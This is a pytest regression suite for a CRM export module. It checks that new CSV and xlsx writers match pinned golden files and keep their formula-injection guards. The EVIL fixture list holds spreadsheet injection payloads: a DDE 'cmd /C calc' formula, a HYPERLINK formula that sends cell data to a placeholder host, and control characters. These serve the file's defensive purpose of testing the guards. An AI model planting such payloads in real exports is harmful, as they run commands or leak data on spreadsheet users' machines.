"""Every export writes exactly what it wrote before the fast writers of issue 18: CSV byte for byte, xlsx cell for
cell (value, type, number format, bold header, sheet titles, column widths), formula guards included.

The files pinned in tests/services/golden_exports/ were written by the writer as it was before the change
(csv.writer over one Python cell at a time, openpyxl's write-only workbook) from a fixed demo shop with planted
formulas, control characters and empty cells. A changed writer must reproduce them; to re-pin after a deliberate
change of a file's content, run with CRMDESK_REPIN_EXPORTS=1 and review the diff.
"""

from __future__ import annotations

import json
import os
from datetime import date, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from crmdesk.analytics.rfm import KOREAN_NAMES, RFM_COLUMNS, rfm_table
from crmdesk.demo import generate_demo
from crmdesk.services import exporting, privacy

GOLDEN = Path(__file__).parent / "golden_exports"
REPIN = os.environ.get("CRMDESK_REPIN_EXPORTS") == "1"
AS_OF = date(2025, 6, 30)
AT = datetime(2025, 6, 30, 18, 0)
EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?d="&A1,"click")', "+1+2", "@SUM(1+1)", "-2+3",
        "bell\x07 and tab\there", "\x1b=starts after a control"]


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """A small demo shop (fixed seed and day) with formulas and control characters planted in every kind of row."""
    from crmdesk.store import open_store

    path = tmp_path_factory.mktemp("pinned") / "shop.sqlite3"
    store = open_store(path)
    generate_demo(store, customers=60, seed=5, as_of=AS_OF)
    with store.engine.begin() as conn:
        raw = conn.connection.cursor()
        raw.execute("UPDATE customer SET name = ?, memo = ?, tags = ? WHERE id = 1", (EVIL[0], EVIL[1], EVIL[5]))
        raw.execute("UPDATE customer SET address = ?, email = ?, memo = ? WHERE id = 2", (EVIL[2], EVIL[3], EVIL[6]))
        raw.execute("UPDATE customer SET archived = 1 WHERE id = 3")
        raw.execute("UPDATE purchase_line SET product = ?, category = ? WHERE id IN (1, 2)", (EVIL[4], EVIL[0]))
        raw.execute("UPDATE contact SET note = ?, outcome = ? WHERE id IN (SELECT MIN(id) FROM contact)",
                    (EVIL[3], EVIL[5]))
        raw.execute("UPDATE feedback SET description = ?, category = ? WHERE id IN (SELECT MIN(id) FROM feedback)",
                    (EVIL[1], EVIL[2]))
    yield store
    store.close()


def _frame() -> pd.DataFrame:
    """A table as the analyses hand to write_table: numpy numbers, NaN, pandas' NA, None, formulas, Korean."""
    return pd.DataFrame({
        "id": np.array([1, 2, 3, 4], dtype="int64"),
        "share": [0.25, float("nan"), 1 / 3, 2.0],
        "count": pd.array([5, pd.NA, 0, -7], dtype="Int64"),
        "name": ["김하늘", EVIL[0], None, EVIL[5]],
        "flag": [True, False, True, False],
        "day": [date(2025, 1, 2), None, date(2024, 12, 31), date(2025, 6, 30)],
        "segment": pd.Categorical(["Champions", "Lost", "Lost", "At Risk"]),
    })


def _rfm(store, ko: bool) -> tuple[list[str], list[tuple]]:
    table = rfm_table(store, AS_OF)
    if ko:
        table["segment"] = table["segment"].map(KOREAN_NAMES)
    return RFM_COLUMNS, list(table[RFM_COLUMNS].itertuples(index=False, name=None))


def _write(store, name: str, path: Path) -> None:
    kind, _, variant = name.partition("-")
    if kind == "customers":
        exporting.export_customers(store, path, include_archived=variant.startswith("all"),
                                   headers="ko" if "ko" in variant else "en")
    elif kind == "touchpoints":
        exporting.export_touchpoints(store, path, headers=variant[:2], today=AS_OF)
    elif kind == "feedback":
        exporting.export_feedback(store, path, headers=variant[:2], at=AT)
    elif kind == "sales":
        exporting.export_sales(store, path, headers=variant[:2], encoding="cp949" if "cp949" in variant else "utf-8")
    elif kind == "rfm":
        header, rows = _rfm(store, variant.startswith("ko"))
        exporting.write_table(store, path, header, iter(rows), "RFM")
    elif kind == "rfmframe":  # the same file through the whole-frame writer
        table = rfm_table(store, AS_OF)
        if variant.startswith("ko"):
            table["segment"] = table["segment"].map(KOREAN_NAMES)
        exporting.write_frame(store, path, table[RFM_COLUMNS], "RFM")
    elif kind == "rfmcommand":  # the same file as `crmdesk rfm --out` writes it: read and scored without pandas
        from crmdesk.analytics import rfm_core

        header, columns = rfm_core.file_columns(rfm_core.read_table(store, AS_OF), korean=variant.startswith("ko"))
        exporting.write_columns(store, path, header, columns, "RFM", text=(1, 2))
    elif kind == "table":
        frame = _frame()
        exporting.write_table(store, path, list(frame.columns), frame.itertuples(index=False, name=None), "Table")
    elif kind == "tableframe":
        exporting.write_frame(store, path, _frame(), "Table")
    elif kind == "privacy":
        privacy.export_customer(store, 1, path, language=variant[:2])
    else:
        raise AssertionError(name)


CSV_FILES = ["customers-en", "customers-ko", "customers-all-en", "touchpoints-en", "touchpoints-ko", "feedback-en",
             "feedback-ko", "sales-en", "sales-ko", "sales-ko-cp949", "rfm-en", "rfm-ko", "table-en",
             "rfmframe-en", "rfmframe-ko", "rfmcommand-en", "rfmcommand-ko", "tableframe-en"]
XLSX_FILES = ["customers-ko", "customers-all-en", "touchpoints-en", "feedback-ko", "sales-en", "sales-ko", "rfm-ko",
              "table-en", "privacy-en", "privacy-ko", "rfmframe-ko", "rfmcommand-ko", "tableframe-en"]


def _pinned(name: str) -> str:
    """The pinned file a variant must reproduce: the frame and command writers write what the row writer wrote."""
    return name.replace("frame", "").replace("command", "")


def _json_value(value: object) -> object:
    if isinstance(value, datetime | date):
        return {type(value).__name__: value.isoformat()}
    return value


def cell_dump(path: Path) -> dict:
    """What a person sees of a workbook: per sheet its title, column widths and every cell's value (with its
    Python type), data type, number format and whether it is bold."""
    book = load_workbook(path)
    sheets = []
    for sheet in book.worksheets:
        # A writer may give neighbouring columns of one width a single entry: each column counts.
        widths = {get_column_letter(i): dim.width for dim in sheet.column_dimensions.values() if dim.customWidth
                  for i in range(dim.min, dim.max + 1)}
        # An empty cell is empty however a writer leaves it (an empty inline string, or no cell at all).
        rows = [[[_json_value(c.value), type(c.value).__name__, c.data_type, c.number_format, bool(c.font.b)]
                 if c.value is not None else None for c in row] for row in sheet.iter_rows()]
        sheets.append({"title": sheet.title, "widths": widths, "rows": rows})
    return {"sheets": sheets}


def test_repinning_is_off():
    """The pinned files are compared, never silently rewritten, in a normal run."""
    assert not REPIN


@pytest.mark.parametrize("name", CSV_FILES)
def test_csv_export_is_byte_for_byte_as_before(shop, tmp_path, name):
    path = tmp_path / f"{name}.csv"
    _write(shop, name, path)
    golden = GOLDEN / f"{_pinned(name)}.csv"
    if REPIN:
        golden.write_bytes(path.read_bytes())
    assert path.read_bytes() == golden.read_bytes()


@pytest.mark.parametrize("name", XLSX_FILES)
def test_xlsx_export_is_cell_for_cell_as_before(shop, tmp_path, name):
    path = tmp_path / f"{name}.xlsx"
    _write(shop, name, path)
    golden = GOLDEN / f"{_pinned(name)}.xlsx.json"
    dump = cell_dump(path)
    if REPIN:
        golden.write_text(json.dumps(dump, ensure_ascii=False, indent=0), encoding="utf-8")
    expected = json.loads(golden.read_text(encoding="utf-8"))
    assert dump["sheets"] == expected["sheets"]


def test_pinned_files_hold_the_planted_guards():
    """The pins themselves show the guards: every planted formula is written with its leading apostrophe, no
    control character reaches a file, and no cell of any pinned file is a live formula."""
    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in sorted(GOLDEN.glob("*.csv")) if "cp949" not in p.name)
    for evil in EVIL[:5]:
        assert "'" + evil.replace('"', '""') in text, evil
    assert "\x07" not in text and "\x1b" not in text and "bell and tab\there" in text
    assert "'=starts after a control" in text  # the guard looks at the text as written, controls gone
    for path in GOLDEN.glob("*.json"):
        for sheet in json.loads(path.read_text(encoding="utf-8"))["sheets"]:
            for row in sheet["rows"]:
                for value, _, data_type, _, _ in filter(None, row):
                    assert data_type != "f" and not (isinstance(value, str) and value[:1] in "=+-@"), (path, value)
